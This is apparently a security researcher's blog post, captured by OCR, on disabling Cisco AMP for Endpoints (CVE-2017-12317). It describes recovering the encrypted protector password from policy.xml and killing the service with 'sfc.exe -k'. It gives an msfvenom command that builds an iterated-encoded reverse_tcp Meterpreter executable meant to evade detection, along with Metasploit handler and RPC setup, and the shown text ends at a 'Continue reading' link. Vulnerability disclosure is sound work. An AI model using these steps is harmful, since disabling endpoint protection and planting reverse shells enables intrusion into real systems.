AMPutations : Disabling Cisco AMP for Endpoints before detection

Edited 1/22/18: The original posting of this was removed temporarily pending Cisco patch of the issue. The newest connector version addresses the ability to obtain the decryption key via anti-debugging, however the key still has not been changed and this method still works for disabling the connector. The CVE assigned to my findings is: CVE-2017-12317

Original post October 2017:Cisco AMP for Endpoints has a Connector Password Protection feature. This protects the application from being uninstalled and the service from being disabled.

However, with the password protection feature enabled, it is possible to kill the NOT_STOPPABLE, NOT_PAUSABLE service using the sfc.exe command line:

sfc.exe -k {protector password}

Reverse engineering the uninstaller allows us to derive the AES decryption key that is used to encrypt the protector password. The password itself is stored encrypted and finally encoded to BASE64 in the policy.xml file.FOR THIS TESTING WE ARE USINGĀ  A WINDOWS 10 64 BIT VM – (WinDev1709Eval w/ Windows Defender Disabled)

Unstoppable Service

If you attempt to stop the service, even via an elevated prompt, you will fail.

The only way to stop it while AMP is running is via uninstall or passing the SFC.EXE -k command-linewith a valid password – this too must be done using an elevated prompt.


Meterpreter Setup

First lets build out an executable we can run on the target machine that will spawn a reverse_tcp meterpreter session back to a Kali box. We want to evade simple detection by AMP, so lets build it using MSFVENOM

msfvenom -p windows/x64/meterpreter/reverse_tcp -b '\x00' lhost={KALI IP} lport=8443 -i 10 -f exe -o {OUTPUT EXE FILENAME}

The ‘-p’ selects our payload and ‘-b’ specifies that null bytes are bad. Make sure you select the correct architecture for the payload as well (‘x64’ or ‘x86’) for your target operating system.

As with setting up any payload we also include our Kali/MSF host via LHOST and LPORT.

We set ‘-i’ to 10. This means the payload will be encoded through 10 iterations. At this time 10 iterations of this standard payload is detected, but increasing the iterations will solve this problem.

The ‘-f’ specifies the file format we want, so targeting a Windows 10 system, we will choose EXE for simplicity and set our output file with ‘-o’.


Metasploit Setup

Load up metasploit:


Onceloaded, lets setup to listen for our reverse shell using exploit/multi/handler

use exploit/multi/handler
set PAYLOAD windows/x64/meterpreter/reverse_tcp
set LPORT 8443
set ExitOnSession false

Now you are successfully set up to wait for the target to run themalicious EXE.

Later in our post-run we will be using a Python script that is going to access the MSF RPC. So we will run one additional command in the msfconsole:

load msgrpc Password=abc123

Continue reading “AMPutations : Disabling Cisco AMPfor Endpoints before detection”